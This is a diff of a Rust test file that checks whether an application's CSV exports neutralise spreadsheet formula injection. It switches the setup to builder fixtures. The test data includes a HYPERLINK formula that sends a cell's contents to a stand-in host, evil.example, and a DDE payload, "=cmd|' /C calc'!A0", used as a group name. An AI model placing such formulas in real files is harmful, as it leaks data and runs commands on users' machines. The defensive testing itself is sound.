@@ -4,10 +4,11 @@
 
 use actix_web::http::StatusCode;
 use baqylau::db;
-use baqylau::db::schema::{audit_entries, mobile_groups, offences};
+use baqylau::db::schema::{audit_entries, offences};
 use baqylau::domain::person_record::{COLUMNS, PersonRecord};
 use diesel::prelude::*;
 
+use crate::support::builders::{Office, person};
 use crate::support::{PASSWORD, TestApp, TestClient, csv_rows};
 
 const LINK: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Подробнее\")";
@@ -64,10 +65,9 @@ fn changes(app: &TestApp) -> i64 {
 }
 
 /// A demo person with formula text in every free-text column and in the names.
-fn hostile_person(app: &TestApp) -> PersonRecord {
-    let person = db::persons::list_all_persons(&mut app.conn())
-        .unwrap()
-        .remove(0);
+fn hostile_person(app: &TestApp, office: &Office) -> PersonRecord {
+    let home = office.point_in(1, 4);
+    let person = app.add_person(person("Ахметов", "Серик", 4, home, &office.districts[1]));
     let mut r = PersonRecord::from_person(&person, "");
     r.middle_name = "-Ахметович".into();
     r.phone = "+77011234567".into();
@@ -82,9 +82,9 @@ fn hostile_person(app: &TestApp) -> PersonRecord {
 
 #[actix_web::test]
 async fn exported_persons_cells_start_with_a_quote_and_the_export_imports_back_unchanged() {
-    let app = TestApp::with_demo(20);
+    let (app, office) = TestApp::office();
     let mut client = prosecutor(&app).await;
-    let record = hostile_person(&app);
+    let record = hostile_person(&app, &office);
     let row: Vec<String> = COLUMNS.iter().map(|c| record.get(c).to_owned()).collect();
     import(
         &mut client,
@@ -149,7 +149,7 @@ async fn exported_persons_cells_start_with_a_quote_and_the_export_imports_back_u
 
 #[actix_web::test]
 async fn exported_offences_cells_start_with_a_quote_and_import_back_unchanged() {
-    let app = TestApp::with_demo(10);
+    let (app, _) = TestApp::office();
     let mut client = prosecutor(&app).await;
     let code = db::districts::list_districts(&mut app.conn()).unwrap()[0]
         .code
@@ -224,22 +224,9 @@ async fn exported_offences_cells_start_with_a_quote_and_import_back_unchanged() 
 
 #[actix_web::test]
 async fn a_group_named_like_a_formula_is_quoted_in_the_report_downloads_and_numbers_are_not() {
-    let app = TestApp::with_demo(20);
+    let (app, office) = TestApp::office();
     let name = "=cmd|' /C calc'!A0";
-    diesel::update(mobile_groups::table)
-        .set(mobile_groups::name.eq(name))
-        .filter(
-            mobile_groups::id.eq_any(
-                mobile_groups::table
-                    .select(mobile_groups::id)
-                    .order(mobile_groups::name)
-                    .limit(1)
-                    .load::<String>(&mut app.conn())
-                    .unwrap(),
-            ),
-        )
-        .execute(&mut app.conn())
-        .unwrap();
+    app.rename_group(&office.groups[0], name);
     let mut client = app.client().await;
     client.sign_in("supervisor", PASSWORD).await;
     let groups = client.get("/reports/groups?format=csv").await;
